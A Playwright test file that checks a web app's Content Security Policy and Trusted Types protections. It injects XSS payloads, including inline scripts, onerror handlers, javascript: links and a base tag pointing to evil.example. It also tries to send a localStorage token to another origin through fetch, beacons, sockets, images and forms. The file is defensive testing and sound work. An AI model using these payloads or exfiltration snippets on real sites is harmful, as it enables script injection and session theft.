import type { Page } from '@playwright/test'
import { type Attacked, test } from './attacked.ts'
import { expect } from './fixtures.ts'

const ran = (page: Page) => page.evaluate(() => (window as unknown as Attacked).ran ?? [])

/** As if the server had written it: the markup is in the page before the app starts. */
const openWith = async (page: Page, url: string, markup: string) => {
  await page.route(url, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('<body>', `<body>${markup}`) })
  })
  await page.goto(url)
  await page.unroute(url)
}

const RUN = (what: string) => `(window.ran ??= []).push('${what}')`

test('T31: injected markup never runs, and each attempt is reported', async ({ rihla, victim }) => {
  const { page, reports } = victim
  await openWith(
    page,
    `${rihla.url}/profile`,
    `<script>${RUN('inline script')}</script>
     <script nonce="">${RUN('inline script with an empty nonce')}</script>
     <script src="data:text/javascript,${RUN('data script')}"></script>
     <img src="/nothing.png" onerror="${RUN('inline handler')}">
     <style>body { outline: 7px solid red }</style>
     <p id="cover" style="position: fixed; inset: 0">over everything</p>
     <a id="link" href="javascript:${RUN('javascript address')}">link</a>
     <base href="https://evil.example/">
     <iframe srcdoc="<script>parent.${RUN('frame')}</script>"></iframe>
     <object data="data:text/html,<script>${RUN('object')}</script>"></object>`,
  )
  await page.locator('#link').evaluate((link: HTMLElement) => link.click())
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  await expect
    .poll(reports)
    .toEqual([
      ...['base-uri', 'object-src', 'script-src-attr'],
      ...['script-src-elem', 'script-src-elem', 'script-src-elem', 'script-src-elem', 'script-src-elem'],
      ...['style-src-attr', 'style-src-elem'],
    ])
  expect(await ran(page)).toEqual([])
  await expect(page.locator('body')).toHaveCSS('outline-style', 'none')
  await expect(page.locator('#cover')).toHaveCSS('position', 'static')
  expect(await page.evaluate(() => document.baseURI)).toBe(`${rihla.url}/profile`)
})

test('T31: a script cannot create code or markup from a text, and each attempt is reported', async ({
  rihla,
  victim,
}) => {
  const { page, reports } = victim
  await page.goto(`${rihla.url}/profile`)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()

  /* oxlint-disable no-eval, no-new-func, no-implied-eval, no-restricted-properties -- that is the point */
  const outcomes = await page.evaluate(() =>
    (window as unknown as Attacked).tryAll({
      eval: () => eval('1'),
      Function: () => new Function('return 1')(),
      innerHTML: () => (document.createElement('p').innerHTML = '<b>x</b>'),
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
      srcdoc: () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
      'script text': () => (document.createElement('script').text = '1'),
      'script address': () => (document.createElement('script').src = '/assets/x.js'),
      timer: () => setTimeout('1'),
      worker: () => new Worker('/assets/x.js'),
      'another policy': () => (window as unknown as Attacked).trustedTypes.createPolicy('another', {}),
      'style attribute': () => document.body.setAttribute('style', 'outline: 7px solid red'),
    }),
  )
  /* oxlint-enable no-eval, no-new-func, no-implied-eval, no-restricted-properties */
  expect(outcomes).toEqual({
    ...{ eval: 'EvalError', Function: 'EvalError', timer: 'TypeError', worker: 'TypeError' },
    ...{ innerHTML: 'TypeError', insertAdjacentHTML: 'TypeError', srcdoc: 'TypeError' },
    ...{ 'script text': 'TypeError', 'script address': 'TypeError', 'another policy': 'TypeError' },
    'style attribute': 'undefined',
  })
  await expect
    .poll(reports)
    .toEqual([...Array.from({ length: 9 }, () => 'require-trusted-types-for'), 'style-src-attr', 'trusted-types'])
  await expect(page.locator('body')).toHaveCSS('outline-style', 'none')
})

test('T31: a script cannot send the token to another origin, and the attempt is reported', async ({
  rihla,
  victim,
  elsewhere,
}) => {
  const { page, reports } = victim
  await page.goto(`${rihla.url}/profile`)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()

  const outcomes = await page.evaluate((address) => {
    const stolen = `${address}/?token=${localStorage.getItem('token')}`
    const end = (target: EventTarget) =>
      new Promise((resolve) => {
        for (const event of ['open', 'load', 'error']) target.addEventListener(event, () => resolve(event))
      })
    const add = <Tag extends keyof HTMLElementTagNameMap>(
      tag: Tag,
      attributes: Partial<HTMLElementTagNameMap[Tag]>,
    ) => {
      const element = Object.assign(document.createElement(tag), attributes)
      document.body.append(element)
      return element
    }
    return (window as unknown as Attacked).tryAll({
      fetch: () => fetch(stolen, { mode: 'no-cors' }),
      beacon: () => navigator.sendBeacon(stolen),
      socket: () => end(new WebSocket(stolen.replace('http', 'ws'))),
      stream: () => end(new EventSource(stolen)),
      image: () => end(add('img', { src: stolen })),
      style: () => end(add('link', { rel: 'stylesheet', href: stolen })),
      prefetch: () => void add('link', { rel: 'prefetch', href: stolen }),
      frame: () => void add('iframe', { src: stolen }),
      video: () => void add('video', { src: stolen }),
      form: () => add('form', { action: stolen, method: 'post' }).submit(),
    })
  }, elsewhere.url)
  await expect
    .poll(reports)
    .toEqual([
      ...['connect-src', 'connect-src', 'connect-src', 'connect-src', 'default-src', 'form-action'],
      ...['frame-src', 'img-src', 'media-src', 'style-src-elem'],
    ])
  expect(outcomes).toMatchObject({
    fetch: 'TypeError',
    socket: 'error',
    stream: 'error',
    image: 'error',
    style: 'error',
  })
  expect(elsewhere.received).toEqual([])
  await fetch(elsewhere.url)
  expect(elsewhere.received).toEqual(['GET /'])
})

test('T31: no other site can frame a page of ours', async ({ rihla, victim, elsewhere }) => {
  const { page, reports } = victim
  await page.goto(`${elsewhere.url}/frame?of=${rihla.url}/profile`)
  await expect.poll(reports).toEqual(['frame-ancestors'])
  await expect
    .poll(() => page.frames().map((frame) => frame.url()))
    .toEqual([page.url(), 'chrome-error://chromewebdata/'])
})
